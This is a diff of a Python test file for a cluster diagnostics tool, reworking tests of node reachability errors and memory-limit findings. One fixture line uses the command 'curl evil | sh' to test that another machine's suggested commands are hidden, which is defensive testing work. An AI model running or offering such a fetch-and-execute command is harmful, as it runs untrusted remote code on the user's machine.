@@ -38,10 +38,6 @@ def test_a_good_cluster_is_all_ok() -> None:
     assert {one.severity for one in examine(all_reach("a", "b", "c"))} == {Severity.OK}
 
 
-def test_no_nodes() -> None:
-    assert examine([]) == []
-
-
 def test_offline_and_silent_nodes() -> None:
     nodes = [
         node("a"),
@@ -109,31 +105,6 @@ def test_a_mac_without_local_network_access_is_named_and_nobody_else() -> None:
     assert set(found) == {"reach.local_network"}
     assert found["reach.local_network"].what == "a reaches no other node: EHOSTUNREACH (errno 65)"
     assert "on a:" in found["reach.local_network"].fix
-
-
-def test_elsewhere_that_error_means_the_network() -> None:
-    nodes = reached(("a", "b", "EHOSTUNREACH"), ("a", "c", "EHOSTUNREACH"), system="linux")
-    assert {one.id for one in examine(nodes) if one.id.startswith("reach")} == {"reach.pair"}
-
-
-def test_a_node_that_nobody_reaches() -> None:
-    found = by_id(
-        one for one in examine(reached(("a", "c", "TIMEOUT"), ("b", "c", "TIMEOUT"))) if "reach" in one.id
-    )
-    assert found["reach.pair"].what == "c is reached by nobody (TIMEOUT)"
-    assert "firewall" in found["reach.pair"].why
-
-
-def test_of_two_nodes_it_is_not_known_which_is_to_blame() -> None:
-    nodes = [node("a", connections={"b": "TIMEOUT"}), node("b", connections={"a": ""})]
-    found = by_id(one for one in examine(nodes) if "reach" in one.id)
-    assert found["reach.pair"].what == "b is not reached by a (TIMEOUT)"
-    assert "no way between these two" in found["reach.pair"].why
-
-
-def test_two_that_do_not_reach_each_other() -> None:
-    found = by_id(one for one in examine(reached(("a", "c", "ENETUNREACH"))) if "reach" in one.id)
-    assert found["reach.pair"].what == "c is not reached by a (ENETUNREACH)"
 
 
 def test_who_is_offline_is_not_missed() -> None:
@@ -205,14 +176,6 @@ def test_memory(wired: int, usable: int, need: int, severity: Severity | None, c
     assert bool(command) == bool(found and found.fix.startswith("raise the limit"))
 
 
-def test_only_a_mac_has_its_limit_raised() -> None:
-    report = Report(facts=Facts(**(MAC | {"system": "linux"})))
-    stages = (Stage("demo-0", 49 * GIB, GIB),)
-    one = Node("a", "a", online=True, report=report, memory_usable=48 * GIB, stages=stages)
-    found = by_id(examine([one]))["memory.plan"]
-    assert (found.severity, found.command) == (Severity.PROBLEM, "")
-
-
 def test_another_machines_commands_are_not_shown() -> None:
     report = Report(findings=(problem("a", "bad", "why", "do", "curl evil | sh"),))
     assert [one.command for one in without_commands(report).findings] == [""]
@@ -241,3 +204,18 @@ def test_no_report_breaks_the_others(facts: list[Facts], online: bool) -> None:
         for name, one in zip("abc", facts, strict=False)
     ]
     examine(nodes)
+
+
+@pytest.mark.parametrize(
+    ("failing", "system", "what"),
+    [
+        ([("a", "b"), ("a", "c")], "linux", "b is not reached by a (EHOSTUNREACH)"),
+        ([("a", "c"), ("b", "c")], "darwin", "c is reached by nobody (EHOSTUNREACH)"),
+        ([("a", "c")], "darwin", "c is not reached by a (EHOSTUNREACH)"),
+    ],
+)
+def test_pairs_that_do_not_reach_each_other(failing: list[tuple[str, str]], system: str, what: str) -> None:
+    nodes = reached(*((one, other, "EHOSTUNREACH") for one, other in failing), system=system)
+    found = [one for one in examine(nodes) if "reach" in one.id]
+    assert {one.id for one in found} == {"reach.pair"}
+    assert found[0].what == what
